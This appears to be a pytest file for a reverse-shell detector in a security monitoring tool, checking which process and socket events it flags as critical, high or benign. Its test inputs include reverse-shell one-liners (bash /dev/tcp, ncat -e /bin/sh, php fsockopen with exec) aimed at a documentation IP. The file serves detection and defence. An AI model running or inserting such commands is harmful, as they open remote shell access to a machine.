# SPDX-License-Identifier: Apache-2.0
"""reverse_shell.socket_stdio on the stdio records real reverse shells and benign programs leave."""

from __future__ import annotations

from typing import Any

import pytest

from collector.detect import Finding, Severity, State
from collector.detect.reverse_shell.socket_stdio import SocketStdioDetector
from collector.enrich.process import ProcessTable
from probes.events import Event
from tests.factories import exec_event, stdio_event

BASH = ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])


def _run(steps: list[tuple[tuple[str | None, list[str]] | None, list[Event]]]) -> list[Finding]:
    """Each step: the program the process execs (or None: unchanged), then the stdio records it leaves."""
    table, det, out = ProcessTable(), SocketStdioDetector(), []
    for program, events in steps:
        if program is not None:
            exe, args = program
            pid = events[0].tgid if events else 4242
            table.apply(exec_event(args, exe=exe, pid=pid))
        for e in events:
            table.apply(e)
            out += det.detect(e, State(table))
    return out


def _one(findings: list[Finding], severity: Severity, shell: str | None) -> dict[str, Any]:
    assert len(findings) == 1, findings
    assert findings[0].level is severity
    assert findings[0].evidence["shell"] == shell
    return findings[0].evidence


def test_bash_dev_tcp_interactive_shell() -> None:
    """bash -i >& /dev/tcp/h/p 0>&1: dup2 onto 1 and 2 (output only), then onto 0: critical, once."""
    found = _run([(BASH, [stdio_event("1", oldfd=10), stdio_event("12", oldfd=1), stdio_event("012", oldfd=1)])])
    ev = _one(found, Severity.CRITICAL, "bash")
    assert ev["dev_tcp"] and ev["how"] == "dup2" and ev["socket"]["daddr"] == "203.0.113.9"
    assert "reverse shell" in found[0].summary and "203.0.113.9:4444" in found[0].summary


@pytest.mark.parametrize(
    ("exe", "args"),
    [
        ("/usr/bin/python3.11", ["python3", "-c", "import socket,os;s=socket.socket();...;os.dup2(s.fileno(),0)"]),
        ("/usr/bin/perl", ["perl", "-e", 'use Socket;...open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");']),
        ("/usr/bin/ruby3.1", ["ruby", "-rsocket", "-e", "f=TCPSocket.open(...).to_i;exec sprintf('/bin/sh -i <&%d')"]),
        ("/usr/bin/php8.2", ["php", "-r", '$sock=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");']),
        ("/usr/bin/lua5.4", ["lua", "-e", "local s=require('socket');..."]),
        ("/usr/bin/mawk", ["awk", 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; ...}']),
        ("/bin/busybox", ["sh", "-i"]),
    ],
)
def test_interpreters_dup_the_socket_onto_stdio(exe: str, args: list[str]) -> None:
    """An interpreter's own dup2 onto 0 then 1 is a reverse shell at the second."""
    found = _run([((exe, args), [stdio_event("0", fd=0)]), (None, [stdio_event("01", fd=1)])])
    assert _one(found, Severity.CRITICAL, found[0].evidence["shell"])["shell"]


def test_nc_e_alerts_on_the_shell_it_execs_not_on_its_dups() -> None:
    """nc -e /bin/sh: ncat's dups onto 0, 1, 2 raise nothing; the exec of sh with them there is critical."""
    ncat = ("/usr/bin/ncat", ["ncat", "203.0.113.9", "4444", "-e", "/bin/sh"])
    dups = [stdio_event("0", fd=0, comm="ncat"), stdio_event("01", fd=1), stdio_event("012", fd=2)]
    found = _run([(ncat, dups), (("/usr/bin/dash", ["/bin/sh"]), [stdio_event("012", how="exec", comm="sh")])])
    ev = _one(found, Severity.CRITICAL, "dash")
    assert ev["how"] == "exec" and ev["hows_seen"] == ["dup2", "dup2", "dup2", "exec"]


def test_commands_the_shell_runs_raise_nothing_more() -> None:
    """After the alert, every command the reverse shell runs inherits the socket: no alert storm."""
    found = _run(
        [
            (BASH, [stdio_event("012")]),
            (("/usr/bin/id", ["id"]), [stdio_event("012", how="exec", pid=4243)]),
            (("/usr/bin/bash", ["bash"]), [stdio_event("012", how="exec", pid=4244)]),
        ]
    )
    assert len(found) == 1


def test_directions_split_over_processes_are_joined() -> None:
    """exec 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l >&5 2>&5; done: cat reads it, a subshell writes it."""
    cat = ("/usr/bin/cat", ["cat"])
    sub = (
        "/usr/bin/bash",
        ["bash", "-c", "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l >&5; done"],
    )
    found = _run([(cat, [stdio_event("0", fd=0, oldfd=5, pid=4300)]), (sub, [stdio_event("12", oldfd=5, pid=4301)])])
    _one(found, Severity.CRITICAL, "bash")


@pytest.mark.parametrize(
    ("fds", "severity", "signature"),
    [
        ("0", Severity.HIGH, "connected socket on a shell's stdin from its exec"),  # bash < /dev/tcp/h/p
        ("1", Severity.MEDIUM, "connected socket on a shell's stdout from its exec"),  # sh script > /dev/tcp/h/p
    ],
)
def test_a_shell_started_with_one_direction_on_a_connection(fds: str, severity: Severity, signature: str) -> None:
    """A shell exec'd reading its commands from a connection is high; writing its output to one, medium."""
    found = _run([(("/usr/bin/bash", ["bash"]), [stdio_event(fds, how="exec")])])
    assert _one(found, severity, "bash")["signature"] == signature


def test_a_connection_is_raised_again_only_when_it_gets_worse() -> None:
    """bash < /dev/tcp (high), then the same shell puts the connection on its stdout too: critical; then no more."""
    found = _run(
        [
            (("/usr/bin/bash", ["bash"]), [stdio_event("0", how="exec")]),
            (None, [stdio_event("01", fd=1), stdio_event("012", fd=2)]),
            (("/usr/bin/id", ["id"]), [stdio_event("012", how="exec", pid=4250)]),
        ]
    )
    assert [f.level for f in found] == [Severity.HIGH, Severity.CRITICAL]


def test_a_program_started_on_the_connection_is_high() -> None:
    """A program that is no shell, started with the connection on stdin and stdout (socat ...,nofork), is high."""
    found = _run([(("/usr/local/bin/agent", ["agent"]), [stdio_event("01", how="exec")])])
    _one(found, Severity.HIGH, None)


@pytest.mark.parametrize(
    ("program", "events", "why"),
    [
        (BASH, [stdio_event("0", fd=0)], "</dev/tcp/h/22 port check: stdin only"),
        (BASH, [stdio_event("1", fd=1)], "echo > /dev/tcp/h/p: stdout only"),
        (("/usr/bin/cat", ["cat"]), [stdio_event("0", how="exec")], "cat </dev/tcp/h/80: no shell, stdin only"),
        (("/usr/bin/ncat", ["ncat", "-e", "/bin/cat", "h", "4"]), [stdio_event("012")], "a helper's dups, no exec"),
        (("/usr/sbin/in.telnetd", ["in.telnetd"]), [stdio_event("012", how="exec", inbound=True)], "inetd: accepted"),
        (("/usr/bin/bash", ["bash"]), [stdio_event("012", how="exec", inbound=True)], "systemd Accept=yes shell"),
        (BASH, [stdio_event("012", state="listen")], "a listening socket"),
        (BASH, [stdio_event("012", state="close_wait")], "a connection the peer closed"),
        (BASH, [stdio_event("012", proto="udp", state="close")], "an unconnected UDP socket (inetd dgram)"),
        (BASH, [stdio_event("012", proto="unknown:132")], "SCTP"),
    ],
)
def test_benign(program: tuple[str, list[str]], events: list[Event], why: str) -> None:
    """Port checks, accepted connections, listeners and unconnected sockets on stdio are no reverse shell."""
    assert _run([(program, events)]) == [], why


def test_udp_connected_shell_is_critical() -> None:
    """sh -i >& /dev/udp/h/p 0>&1: a connected UDP socket is a reverse shell too."""
    _one(_run([(BASH, [stdio_event("012", proto="udp")])]), Severity.CRITICAL, "bash")


def test_ipv6_peer_in_summary_and_connections_bounded() -> None:
    """An IPv6 peer is bracketed; the detector remembers a bounded number of connections."""
    table, det = ProcessTable(), SocketStdioDetector(max_connections=2)
    table.apply(exec_event(BASH[1], exe=BASH[0]))
    for port in range(10):
        det.detect(stdio_event("0", fd=0, sport=port, family="ipv6", daddr="2001:db8::9"), State(table))
    assert len(det._seen) == 2
    found = det.detect(stdio_event("01", sport=9, family="ipv6", daddr="2001:db8::9"), State(table))
    assert "[2001:db8::9]:4444" in found[0].summary
